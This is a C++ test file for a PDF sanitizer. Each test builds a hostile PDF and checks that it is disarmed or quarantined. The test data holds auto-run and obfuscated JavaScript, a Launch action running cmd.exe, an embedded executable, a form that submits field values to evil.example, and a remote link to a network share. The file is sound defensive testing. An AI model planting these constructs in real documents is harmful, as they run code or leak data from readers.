// Hand-made hostile PDFs: each construct is written by the test, the output is checked with qpdf
// (not with our own parser) and the findings must say what was there.
#include <doctest/doctest.h>

#include "pdf_support.hpp"

using namespace mugaika;
using namespace mugaika::test;

namespace {

// Sanitizes `bytes` and checks the common promises: disarmed, one PDF, no residual constructs,
// the page text kept, the finding `kind` reported.
Outcome expect_disarmed(const std::string& bytes, const std::string& kind, const std::string& text = "Visible text") {
    auto o = pdf::engine().process(bytes, "hostile.pdf");
    REQUIRE_MESSAGE(o.verdict == Verdict::disarmed, o.reason << ": " << o.reason_detail);
    const Output* out = pdf::pdf_output(o);
    REQUIRE(out);
    CHECK(pdf::residuals(out->bytes) == std::vector<std::string>{});
    CHECK(pdf::pdftotext(out->bytes).find(text) != std::string::npos);
    CHECK_MESSAGE(pdf::has_finding(o, kind), "missing finding " << kind);
    return o;
}

}  // namespace

TEST_CASE("pdf hostile: OpenAction JavaScript") {
    auto objects = pdf::one_page("Visible text", "/OpenAction 6 0 R");
    objects.push_back("<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>");
    auto original = pdf::build(objects);
    REQUIRE(pdf::residuals(original).size() >= 2);   // the checker sees the attack in the input
    auto o = expect_disarmed(original, "pdf.javascript");
    CHECK(pdf::has_finding(o, "pdf.open_action"));
}

TEST_CASE("pdf hostile: name-obfuscated /J#61vaScript in OpenAction and the names tree") {
    auto objects = pdf::one_page("Visible text", "/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> "
                                                 "/Names << /J#61v#61Script 6 0 R >>");
    objects.push_back("<< /Names [(x) 7 0 R] >>");
    objects.push_back("<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'a'}\\)) >>");
    auto o = expect_disarmed(pdf::build(objects), "pdf.javascript");
    for (const auto& f : o.findings)
        if (f.kind == "pdf.javascript") {
            CHECK(f.detail.find("open action") != std::string::npos);
            CHECK(f.detail.find("names tree") != std::string::npos);
        }
}

TEST_CASE("pdf hostile: JavaScript inside an object stream") {
    auto objects = pdf::one_page("Visible text", "/OpenAction 6 0 R");
    objects.push_back("<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/'\\)) >>");
    TempDir dir;
    write_file(dir / "plain.pdf", pdf::build(objects));
    // qpdf moves the action into a compressed object stream: no plain "/JavaScript" in the file.
    auto r = run("qpdf --object-streams=generate --compress-streams=y " + shell_quote((dir / "plain.pdf").string()) +
                 " " + shell_quote((dir / "objstm.pdf").string()));
    REQUIRE(r.status == 0);
    auto packed = read_whole(dir / "objstm.pdf");
    REQUIRE(packed.find("/ObjStm") != std::string::npos);
    REQUIRE(packed.find("JavaScript") == std::string::npos);
    expect_disarmed(packed, "pdf.javascript");
}

TEST_CASE("pdf hostile: an incremental update that adds an OpenAction script to a clean file") {
    auto clean = pdf::build(pdf::one_page("Visible text"));
    auto updated = pdf::append_update(
        clean,
        {{1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> >>"},
         {6, "<< /S /JavaScript /JS (app.alert\\('update'\\)) >>"}},
        7);
    auto o = expect_disarmed(updated, "pdf.javascript");
    CHECK(pdf::has_finding(o, "pdf.additional_actions"));
}

TEST_CASE("pdf hostile: an update that unlinks a script still reports it, and the output has none") {
    auto objects = pdf::one_page("Visible text", "/OpenAction 6 0 R");
    objects.push_back("<< /S /JavaScript /JS (app.alert\\('hidden'\\)) >>");
    auto updated = pdf::append_update(pdf::build(objects), {{1, "<< /Type /Catalog /Pages 2 0 R >>"}}, 7);
    auto o = expect_disarmed(updated, "pdf.javascript");
    for (const auto& f : o.findings)
        if (f.kind == "pdf.javascript") CHECK(f.detail.find("unreferenced") != std::string::npos);
}

TEST_CASE("pdf hostile: an embedded MZ executable is dropped by default") {
    std::string mz = std::string("MZ\x90\x00\x03\x00\x00\x00", 8) + std::string(120, '\0') + "This program cannot be run in DOS mode.";
    auto objects = pdf::one_page("Visible text", "/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>");
    objects.push_back("<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 7 0 R >> >>");
    objects.push_back(pdf::stream(mz, "/Type /EmbeddedFile /Params << /Size " + std::to_string(mz.size()) + " >>"));
    auto o = expect_disarmed(pdf::build(objects), "pdf.embedded_file");
    CHECK(o.outputs.size() == 1);
    CHECK(o.held.empty());
    for (const auto& f : o.findings)
        if (f.kind == "pdf.embedded_file") {
            CHECK(f.detail.find("evil.exe") != std::string::npos);
            CHECK(f.detail.find(std::to_string(mz.size())) != std::string::npos);
            CHECK(f.ja.find("evil.exe") != std::string::npos);
        }
}

TEST_CASE("pdf hostile: a Launch link annotation") {
    auto objects = pdf::one_page("Visible text", "", "/Annots [6 0 R]");
    objects.push_back("<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /Border [0 0 0] "
                      "/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>");
    expect_disarmed(pdf::build(objects), "pdf.launch");
}

TEST_CASE("pdf hostile: an AcroForm with a submit button, the filled-in value is flattened into the page") {
    std::string appearance = "/Tx BMC BT /Helv 12 Tf 2 6 Td (FIELDVALUE42) Tj ET EMC";
    auto objects = pdf::one_page("Visible text", "/AcroForm << /Fields [6 0 R 8 0 R] /DR << /Font << /Helv 9 0 R >> >> >>",
                                 "/Annots [6 0 R 8 0 R]");
    objects.push_back("<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (FIELDVALUE42) /F 4 /Rect [72 600 300 624] "
                      "/P 3 0 R /AP << /N 7 0 R >> >>");
    objects.push_back(pdf::stream(appearance, "/Type /XObject /Subtype /Form /BBox [0 0 228 24] "
                                              "/Resources << /Font << /Helv 9 0 R >> >>"));
    objects.push_back("<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /F 4 /Rect [72 560 200 590] /P 3 0 R "
                      "/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >> >>");
    objects.push_back("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>");
    auto o = expect_disarmed(pdf::build(objects), "pdf.submit_form");
    CHECK(pdf::has_finding(o, "pdf.acroform"));
    CHECK(pdf::pdftotext(o.outputs[0].bytes).find("FIELDVALUE42") != std::string::npos);
}

TEST_CASE("pdf hostile: an XFA form") {
    std::string xfa = "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><script>app.alert(1)</script></template></xdp:xdp>";
    auto objects = pdf::one_page("Visible text", "/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering false");
    objects.push_back(pdf::stream(xfa));
    expect_disarmed(pdf::build(objects), "pdf.xfa");
}

TEST_CASE("pdf hostile: GoToR, GoToE, ImportData and RichMedia") {
    auto objects = pdf::one_page("Visible text", "", "/Annots [6 0 R 7 0 R 8 0 R 9 0 R]");
    objects.push_back("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>");
    objects.push_back("<< /Type /Annot /Subtype /Link /Rect [0 10 10 20] /A << /S /GoToE /T << /R /C /N (inner.pdf) >> >> >>");
    objects.push_back("<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /ImportData /F (data.fdf) >> >>");
    objects.push_back("<< /Type /Annot /Subtype /RichMedia /Rect [0 30 10 40] /RichMediaContent << >> >>");
    auto o = expect_disarmed(pdf::build(objects), "pdf.goto_remote");
    CHECK(pdf::has_finding(o, "pdf.submit_form"));
    CHECK(pdf::has_finding(o, "pdf.richmedia"));
}

TEST_CASE("pdf hostile: encrypted with an empty user password is rebuilt without encryption") {
    TempDir dir;
    write_file(dir / "plain.pdf", pdf::build(pdf::one_page("Visible text")));
    auto r = run("qpdf --encrypt '' owner-secret 256 --print=none -- " + shell_quote((dir / "plain.pdf").string()) + " " +
                 shell_quote((dir / "enc.pdf").string()));
    REQUIRE(r.status == 0);
    auto enc = read_whole(dir / "enc.pdf");
    REQUIRE(enc.find("/Encrypt") != std::string::npos);
    auto o = expect_disarmed(enc, "pdf.encryption");
    CHECK(o.outputs[0].bytes.find("/Encrypt") == std::string::npos);
}

TEST_CASE("pdf hostile: encrypted with a user password is quarantined as encrypted") {
    TempDir dir;
    write_file(dir / "plain.pdf", pdf::build(pdf::one_page("Visible text")));
    auto r = run("qpdf --encrypt user-secret owner-secret 256 -- " + shell_quote((dir / "plain.pdf").string()) + " " +
                 shell_quote((dir / "enc.pdf").string()));
    REQUIRE(r.status == 0);
    auto o = pdf::engine().process(read_whole(dir / "enc.pdf"), "locked.pdf");
    CHECK(o.verdict == Verdict::quarantined);
    CHECK(o.reason == "encrypted");
    CHECK(o.outputs.empty());
}

TEST_CASE("pdf hostile: something that only starts like a PDF is quarantined as malformed") {
    auto o = pdf::engine().process("%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage garbage\n", "fake.pdf");
    CHECK(o.verdict == Verdict::quarantined);
    CHECK(o.reason == "malformed");
}
